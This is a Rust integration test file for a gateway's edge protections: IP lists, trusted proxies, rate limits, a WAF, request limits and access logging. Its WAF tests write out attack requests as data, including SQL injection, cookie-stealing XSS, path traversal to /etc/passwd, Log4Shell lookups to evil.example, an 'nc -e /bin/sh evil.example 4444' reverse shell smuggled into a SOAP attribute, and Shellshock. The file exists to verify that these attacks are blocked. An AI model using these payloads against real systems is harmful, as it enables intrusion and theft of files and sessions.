//! The edge phases end to end over real TCP: IP lists and trusted proxies, the per-client rate
//! limit, the WAF, request limits, and what the access log and the edge counters show, in
//! block and count mode. Policies are written as `rollgate.toml` text and parsed by
//! `rollgate-core`, exactly as `rollgate serve` builds them.

mod support;

use std::path::PathBuf;
use std::time::Duration;

use bytes::Bytes;
use http::StatusCode;
use rollgate_core::config::edge::EdgeConfig;
use rollgate_gateway::EdgeCounts;
use support::{Answer, TestClient, TestGateway, TestUpstream};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The body of `[env.e.edge]` parsed as `rollgate serve` would.
fn edge(body: &str) -> EdgeConfig {
    support::parse_env_edge(&format!("[env.e.edge]\n{body}"))
}

/// A gateway with the given edge policy in front of one upstream, and its access log path.
struct Edge {
    gateway: TestGateway,
    _upstream: TestUpstream,
    _dir: tempfile::TempDir,
    log: PathBuf,
}

impl Edge {
    async fn start(body: &str) -> Edge {
        let dir = tempfile::tempdir().expect("tempdir");
        let log = dir.path().join("access.log");
        let (gateway, upstream) = support::start_edge_gateway(&edge(body), log.clone()).await;
        Edge {
            gateway,
            _upstream: upstream,
            _dir: dir,
            log,
        }
    }

    async fn send(&self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Answer {
        TestClient::new()
            .send(
                self.gateway.addr,
                method,
                path,
                headers,
                Bytes::from(body.to_owned()),
            )
            .await
    }

    fn counts(&self, rule: &str) -> EdgeCounts {
        self.gateway.metrics.edge_counters()[rule]
    }

    /// Stops the gateway (flushing the access log) and returns its lines.
    async fn stop(self) -> Vec<serde_json::Value> {
        self.gateway.stop().await;
        std::fs::read_to_string(&self.log)
            .expect("access log")
            .lines()
            .map(|line| serde_json::from_str(line).expect("one JSON object per line"))
            .collect()
    }
}

/// Sends raw bytes (so nothing normalises them) and reads until the gateway closes.
async fn raw(addr: std::net::SocketAddr, request: &[u8]) -> String {
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(request).await.expect("write request");
    let mut out = Vec::new();
    // A guard against a hung test, not a timing assertion.
    tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut out))
        .await
        .expect("the gateway answers and closes")
        .expect("read response");
    String::from_utf8_lossy(&out).into_owned()
}

fn line_with<'a>(lines: &'a [serde_json::Value], request_id: &str) -> &'a serde_json::Value {
    lines
        .iter()
        .find(|l| l["request_id"] == request_id)
        .unwrap_or_else(|| panic!("no access-log line for {request_id}: {lines:?}"))
}

#[tokio::test]
async fn a_denied_address_gets_403_ip_denied() {
    let edge = Edge::start("deny_ips = [\"127.0.0.0/8\"]").await;
    let answer = edge
        .send("GET", "/", &[("x-request-id", "denied")], "")
        .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert_eq!(answer.json()["code"], "ip_denied");
    assert_eq!(answer.header("x-request-id"), "denied");
    assert_eq!(
        edge.counts("ip_deny"),
        EdgeCounts {
            blocked: 1,
            counted: 0
        }
    );
    let lines = edge.stop().await;
    let line = line_with(&lines, "denied");
    assert_eq!(line["error"], "ip_denied");
    assert_eq!(line["edge"][0]["rule"], "ip_deny");
    assert_eq!(line["edge"][0]["action"], "block");
    assert_eq!(line["edge"][0]["matched"], "127.0.0.0/8");
}

#[tokio::test]
async fn only_the_allow_list_gets_in() {
    let outside = Edge::start("allow_ips = [\"10.0.0.0/8\"]").await;
    let answer = outside.send("GET", "/", &[], "").await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert_eq!(answer.json()["code"], "ip_denied");
    assert_eq!(outside.counts("ip_allow").blocked, 1);
    outside.stop().await;

    let inside = Edge::start("allow_ips = [\"10.0.0.0/8\", \"127.0.0.1\"]").await;
    let answer = inside.send("GET", "/", &[], "").await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.body, "blue");
    inside.stop().await;
}

#[tokio::test]
async fn ip_lists_in_count_mode_let_the_client_through_and_count_it() {
    let edge = Edge::start("ip_mode = \"count\"\ndeny_ips = [\"127.0.0.1/32\"]").await;
    let answer = edge
        .send("GET", "/", &[("x-request-id", "counted")], "")
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(
        edge.counts("ip_deny"),
        EdgeCounts {
            blocked: 0,
            counted: 1
        }
    );
    let lines = edge.stop().await;
    let line = line_with(&lines, "counted");
    assert_eq!(line["status"], 200);
    assert_eq!(line["edge"][0]["rule"], "ip_deny");
    assert_eq!(line["edge"][0]["action"], "count");
}

#[tokio::test]
async fn forwarded_for_is_believed_from_a_trusted_peer() {
    let edge =
        Edge::start("trusted_proxies = [\"127.0.0.1/32\"]\ndeny_ips = [\"203.0.113.0/24\"]").await;
    let denied = edge
        .send("GET", "/", &[("x-forwarded-for", "203.0.113.9")], "")
        .await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    assert_eq!(denied.json()["code"], "ip_denied");

    // A client-written left part cannot smuggle a denied address past the trusted hop.
    let allowed = edge
        .send(
            "GET",
            "/",
            &[
                ("x-forwarded-for", "203.0.113.9, 198.51.100.1"),
                ("x-request-id", "via-proxy"),
            ],
            "",
        )
        .await;
    assert_eq!(allowed.status, StatusCode::OK);
    // The gateway still appends its own peer for the upstream.
    assert_eq!(
        allowed.header("x-seen-forwarded-for"),
        "203.0.113.9, 198.51.100.1, 127.0.0.1"
    );
    let lines = edge.stop().await;
    assert_eq!(line_with(&lines, "via-proxy")["client"], "198.51.100.1");
}

#[tokio::test]
async fn forwarded_for_from_an_untrusted_peer_is_ignored() {
    let edge = Edge::start("deny_ips = [\"203.0.113.0/24\"]").await;
    let answer = edge
        .send(
            "GET",
            "/",
            &[
                ("x-forwarded-for", "203.0.113.9"),
                ("x-request-id", "direct"),
            ],
            "",
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "judged as 127.0.0.1");
    assert_eq!(
        answer.header("x-seen-forwarded-for"),
        "203.0.113.9, 127.0.0.1"
    );
    let lines = edge.stop().await;
    assert_eq!(line_with(&lines, "direct")["client"], "127.0.0.1");
    assert!(line_with(&lines, "direct").get("edge").is_none());
}

// The period is a minute, not a second: a token refills every period/requests, and on a busy
// two-core machine six requests can take longer than a fifth of a second.
const FIVE_PER_MINUTE: &str =
    "trusted_proxies = [\"127.0.0.1/32\"]\nrate_limit = { requests = 5, per = \"1m\" }";

#[tokio::test]
async fn the_sixth_request_in_the_period_gets_429_with_retry_after() {
    let edge = Edge::start(FIVE_PER_MINUTE).await;
    let from = |ip: &'static str| [("x-forwarded-for", ip)];
    for i in 0..5 {
        let answer = edge.send("GET", "/", &from("198.51.100.1"), "").await;
        assert_eq!(answer.status, StatusCode::OK, "request {i}");
    }
    let limited = edge.send("GET", "/", &from("198.51.100.1"), "").await;
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(limited.json()["code"], "rate_limited");
    let retry: u64 = limited
        .header("retry-after")
        .parse()
        .expect("Retry-After in seconds");
    assert!((1..=60).contains(&retry), "Retry-After {retry}");

    let other = edge.send("GET", "/", &from("198.51.100.2"), "").await;
    assert_eq!(
        other.status,
        StatusCode::OK,
        "another client has its own rate"
    );
    assert_eq!(
        edge.counts("rate_limit"),
        EdgeCounts {
            blocked: 1,
            counted: 0
        }
    );
    edge.stop().await;
}

#[tokio::test]
async fn a_rate_limit_in_count_mode_lets_all_through_and_counts() {
    let edge = Edge::start(&format!("mode = \"count\"\n{FIVE_PER_MINUTE}")).await;
    for i in 0..8 {
        let id = format!("r{i}");
        let answer = edge
            .send(
                "GET",
                "/",
                &[("x-forwarded-for", "198.51.100.1"), ("x-request-id", &id)],
                "",
            )
            .await;
        assert_eq!(answer.status, StatusCode::OK, "request {i}");
    }
    assert_eq!(
        edge.counts("rate_limit"),
        EdgeCounts {
            blocked: 0,
            counted: 3
        }
    );
    let lines = edge.stop().await;
    assert!(line_with(&lines, "r4").get("edge").is_none());
    let line = line_with(&lines, "r7");
    assert_eq!(line["status"], 200);
    assert_eq!(line["edge"][0]["rule"], "rate_limit");
    assert_eq!(line["edge"][0]["action"], "count");
}

/// One attack of each kind: (what, expected rule, raw HTTP request). Raw, so that no client
/// library normalises the path or the header values.
fn attacks() -> Vec<(&'static str, &'static str, String)> {
    let request = |line: &str, headers: &str, body: &str| {
        format!(
            "{line} HTTP/1.1\r\nhost: api\r\nconnection: close\r\ncontent-length: {}\r\n{headers}\r\n{body}",
            body.len()
        )
    };
    vec![
        (
            "sqli in the query",
            "waf.sqli",
            request("GET /items?id=1'%20OR%20'1'='1", "", ""),
        ),
        (
            "xss in a JSON body",
            "waf.xss",
            request(
                "POST /comments",
                "content-type: application/json\r\n",
                r#"{"comment": "<script>alert(document.cookie)</script>"}"#,
            ),
        ),
        (
            "traversal in the path",
            "waf.traversal",
            request("GET /..%2f..%2fetc/passwd", "", ""),
        ),
        (
            "log4shell in a header",
            "waf.log4shell",
            request(
                "GET /",
                "x-api-version: ${jndi:ldap://evil.example/a}\r\n",
                "",
            ),
        ),
        (
            "a command in a SOAP body's attribute",
            "waf.rce",
            request(
                "POST /soap",
                "content-type: application/soap+xml; charset=utf-8\r\n",
                r#"<Envelope><Body><Export format="csv; nc -e /bin/sh evil.example 4444"/></Body></Envelope>"#,
            ),
        ),
        (
            "shellshock in the user agent",
            "waf.shellshock",
            request(
                "GET /",
                "user-agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n",
                "",
            ),
        ),
    ]
}

#[tokio::test]
async fn the_waf_blocks_each_attack_with_403_and_never_echoes_it() {
    let edge = Edge::start("rate_limit = false").await;
    for (what, rule, request) in attacks() {
        let response = raw(edge.gateway.addr, request.as_bytes()).await;
        assert!(response.starts_with("HTTP/1.1 403"), "{what}: {response}");
        assert!(
            response.contains("\"request_blocked\""),
            "{what}: {response}"
        );
        for payload in ["OR", "script", "passwd", "jndi", "() {"] {
            assert!(
                !response.contains(payload),
                "{what} echoed {payload:?}: {response}"
            );
        }
        assert_eq!(
            edge.counts(rule),
            EdgeCounts {
                blocked: 1,
                counted: 0
            },
            "{what}"
        );
    }
    edge.stop().await;
}

#[tokio::test]
async fn the_waf_in_count_mode_passes_each_attack_and_counts_it() {
    let edge = Edge::start("rate_limit = false\nwaf = { mode = \"count\" }").await;
    for (what, rule, request) in attacks() {
        let response = raw(edge.gateway.addr, request.as_bytes()).await;
        assert!(response.starts_with("HTTP/1.1 200"), "{what}: {response}");
        assert!(
            response.ends_with("blue"),
            "{what} reached the upstream: {response}"
        );
        assert_eq!(
            edge.counts(rule),
            EdgeCounts {
                blocked: 0,
                counted: 1
            },
            "{what}"
        );
    }
    edge.stop().await;
}

#[tokio::test]
async fn an_exclusion_lifts_its_rule_on_its_prefix_only() {
    let edge =
        Edge::start("waf = { exclusions = [{ path_prefix = \"/search\", rules = [\"sqli\"] }] }")
            .await;
    let query = "?q=1'%20OR%20'1'='1";
    let search = edge.send("GET", &format!("/search{query}"), &[], "").await;
    assert_eq!(search.status, StatusCode::OK);
    let items = edge.send("GET", &format!("/items{query}"), &[], "").await;
    assert_eq!(items.status, StatusCode::FORBIDDEN);
    assert_eq!(items.json()["code"], "request_blocked");
    edge.stop().await;
}

/// ` exec xp_cmdshell`, from the CRS regression test 942190-1: found by CRS rule 942190
/// ("MSSQL code execution and information gathering") and not by libinjection, so the finding
/// is the CRS rule's.
const CRS_ONLY_QUERY: &str = "q=%20exec%20xp_cmdshell";

#[tokio::test]
async fn a_crs_finding_is_blocked_and_the_access_log_names_the_crs_rule() {
    let edge = Edge::start("").await;
    let answer = edge
        .send(
            "GET",
            &format!("/search?{CRS_ONLY_QUERY}"),
            &[("x-request-id", "crs")],
            "",
        )
        .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert_eq!(answer.json()["code"], "request_blocked");
    assert!(!answer.body.contains("xp_cmdshell"), "{}", answer.body);
    assert_eq!(
        edge.counts("waf.sqli"),
        EdgeCounts {
            blocked: 1,
            counted: 0
        }
    );
    let lines = edge.stop().await;
    let line = line_with(&lines, "crs");
    assert_eq!(line["error"], "request_blocked");
    let decision = &line["edge"][0];
    assert_eq!(decision["rule"], "waf.sqli");
    assert_eq!(decision["action"], "block");
    assert_eq!(decision["crs"], 942190);
    assert_eq!(decision["field"], "query:q");
    assert_eq!(decision["matched"], " exec xp_cmdshell");
}

#[tokio::test]
async fn a_crs_exclusion_lifts_that_rule_on_its_prefix_only() {
    let edge = Edge::start(
        r#"waf = { exclusions = [{ path_prefix = "/search", rules = ["crs-942190"], fields = ["query:q"] }] }"#,
    )
    .await;
    let search = edge
        .send(
            "GET",
            &format!("/search?{CRS_ONLY_QUERY}"),
            &[("x-request-id", "excluded")],
            "",
        )
        .await;
    assert_eq!(search.status, StatusCode::OK);
    assert_eq!(search.body, "blue");
    let items = edge
        .send(
            "GET",
            &format!("/items?{CRS_ONLY_QUERY}"),
            &[("x-request-id", "elsewhere")],
            "",
        )
        .await;
    assert_eq!(items.status, StatusCode::FORBIDDEN);
    // The entry names no detector, so libinjection still applies on the prefix.
    let libinjection = edge
        .send(
            "GET",
            "/search?q=1'%20OR%20'1'='1",
            &[("x-request-id", "libinjection")],
            "",
        )
        .await;
    assert_eq!(libinjection.status, StatusCode::FORBIDDEN);
    let lines = edge.stop().await;
    assert!(line_with(&lines, "excluded").get("edge").is_none());
    assert_eq!(line_with(&lines, "elsewhere")["edge"][0]["crs"], 942190);
    let decision = &line_with(&lines, "libinjection")["edge"][0];
    assert_eq!(decision["rule"], "waf.sqli");
    assert!(decision.get("crs").is_none(), "{decision}");
}

#[tokio::test]
async fn a_clean_request_passes_with_no_edge_entries() {
    let edge = Edge::start("").await;
    let body = r#"{"name": "Ada Lovelace", "email": "ada@example.com", "tags": ["a", "b"]}"#;
    let answer = edge
        .send(
            "POST",
            "/api/users?page=2&sort=name",
            &[
                ("x-request-id", "clean"),
                ("content-type", "application/json"),
                (
                    "user-agent",
                    "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
                ),
                ("cookie", "session=abc123; theme=dark"),
            ],
            body,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.header("x-seen-body-len"), body.len().to_string());
    assert!(
        edge.gateway
            .metrics
            .edge_counters()
            .values()
            .all(|c| *c == EdgeCounts::default())
    );
    let lines = edge.stop().await;
    let line = line_with(&lines, "clean");
    assert_eq!(line["status"], 200);
    assert!(line.get("edge").is_none(), "{line}");
}

#[tokio::test]
async fn the_access_log_names_the_rule_and_a_truncated_match() {
    let edge = Edge::start("").await;
    let payload = format!("1'%20OR%20'1'='1'%20--%20{}", "x".repeat(200));
    let answer = edge
        .send(
            "GET",
            &format!("/items?id={payload}"),
            &[("x-request-id", "attack")],
            "",
        )
        .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert!(!answer.body.contains("xxxx") && !answer.body.contains("OR"));
    let lines = edge.stop().await;
    let line = line_with(&lines, "attack");
    assert_eq!(line["error"], "request_blocked");
    let decision = &line["edge"][0];
    assert_eq!(decision["rule"], "waf.sqli");
    assert_eq!(decision["action"], "block");
    assert_eq!(decision["field"], "query:id");
    let matched = decision["matched"].as_str().expect("matched");
    assert!(matched.starts_with("1' OR '1'='1"), "{matched}");
    assert!(matched.chars().count() <= 64, "{matched}");
}

#[tokio::test]
async fn oversized_headers_get_431_headers_too_large() {
    let edge = Edge::start("limits = { max_header_bytes = \"8KiB\", max_headers = 20 }").await;
    let big = "a".repeat(9 * 1024);
    let answer = edge
        .send("GET", "/", &[("x-big", &big), ("x-request-id", "big")], "")
        .await;
    assert_eq!(answer.status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    assert_eq!(answer.json()["code"], "headers_too_large");
    assert_eq!(edge.counts("limits.header_bytes").blocked, 1);

    let names: Vec<String> = (0..25).map(|i| format!("x-h{i}")).collect();
    let many: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "1")).collect();
    let answer = edge.send("GET", "/", &many, "").await;
    assert_eq!(answer.status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    assert_eq!(edge.counts("limits.headers").blocked, 1);

    let fits = edge.send("GET", "/", &many[..10], "").await;
    assert_eq!(fits.status, StatusCode::OK);
    let lines = edge.stop().await;
    assert_eq!(
        line_with(&lines, "big")["edge"][0]["rule"],
        "limits.header_bytes"
    );
}

#[tokio::test]
async fn headers_far_over_the_limit_are_cut_off_by_the_http_layer() {
    let edge = Edge::start("limits = { max_header_bytes = \"8KiB\" }").await;
    let request = format!(
        "GET / HTTP/1.1\r\nhost: api\r\nx-huge: {}\r\n\r\n",
        "a".repeat(64 * 1024)
    );
    let response = raw(edge.gateway.addr, request.as_bytes()).await;
    assert!(response.starts_with("HTTP/1.1 431"), "{response}");
    edge.stop().await;
}

#[tokio::test]
async fn a_stalled_body_gets_408_body_timeout() {
    let edge = Edge::start("limits = { body_timeout = \"300ms\" }").await;
    // Half of the declared body, then nothing: the slowloris pattern on bodies.
    let request = format!(
        "POST /upload HTTP/1.1\r\nhost: api\r\nx-request-id: stalled\r\ncontent-length: 100\r\n\r\n{}",
        "b".repeat(50)
    );
    let response = raw(edge.gateway.addr, request.as_bytes()).await;
    assert!(response.starts_with("HTTP/1.1 408"), "{response}");
    assert!(response.contains("\"body_timeout\""), "{response}");
    assert!(
        response.to_ascii_lowercase().contains("connection: close"),
        "{response}"
    );
    assert_eq!(edge.counts("limits.body_timeout").blocked, 1);
    let lines = edge.stop().await;
    let line = line_with(&lines, "stalled");
    assert_eq!(line["status"], 408);
    assert_eq!(line["edge"][0]["rule"], "limits.body_timeout");
}

#[tokio::test]
async fn headers_that_never_end_get_the_connection_closed() {
    let edge = Edge::start("limits = { header_timeout = \"300ms\" }").await;
    // The request line and one field, then nothing: the slowloris pattern on headers.
    // `raw` reads until the gateway closes the connection (and fails the test after 20 s).
    let response = raw(
        edge.gateway.addr,
        b"GET / HTTP/1.1\r\nhost: api\r\nx-a: 1\r\n",
    )
    .await;
    assert!(
        response.is_empty() || response.starts_with("HTTP/1.1 408"),
        "{response}"
    );
    // A client whose headers do end in time is served as before.
    let response = raw(
        edge.gateway.addr,
        b"GET / HTTP/1.1\r\nhost: api\r\nconnection: close\r\n\r\n",
    )
    .await;
    assert!(response.starts_with("HTTP/1.1 200"), "{response}");
    edge.stop().await;
}

#[tokio::test]
async fn the_body_limit_still_answers_413_and_counts() {
    let edge = Edge::start("limits = { max_body = \"1KiB\" }").await;
    let answer = edge.send("POST", "/", &[], &"z".repeat(4096)).await;
    assert_eq!(answer.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(answer.json()["code"], "body_too_large");
    assert_eq!(edge.counts("limits.body_size").blocked, 1);
    let fits = edge.send("POST", "/", &[], &"z".repeat(1024)).await;
    assert_eq!(fits.status, StatusCode::OK);
    assert_eq!(fits.header("x-seen-body-len"), "1024");
    edge.stop().await;
}

#[tokio::test]
async fn a_client_request_id_is_inspected_like_any_header() {
    let edge = Edge::start("").await;
    // Kept as the request id (visible ASCII, no spaces), and inspected like any header.
    let answer = edge
        .send(
            "GET",
            "/",
            &[("x-request-id", "${jndi:ldap://198.51.100.7/a}")],
            "",
        )
        .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
    assert_eq!(answer.json()["code"], "request_blocked");
    // Without one, the gateway's own random id passes through the WAF untouched.
    for _ in 0..3 {
        let answer = edge.send("GET", "/", &[], "").await;
        assert_eq!(answer.status, StatusCode::OK);
    }
    assert_eq!(
        edge.counts("waf.log4shell"),
        EdgeCounts {
            blocked: 1,
            counted: 0
        }
    );
    let lines = edge.stop().await;
    let decision = &line_with(&lines, "${jndi:ldap://198.51.100.7/a}")["edge"][0];
    assert_eq!(decision["rule"], "waf.log4shell");
    assert_eq!(decision["field"], "header:x-request-id");
}
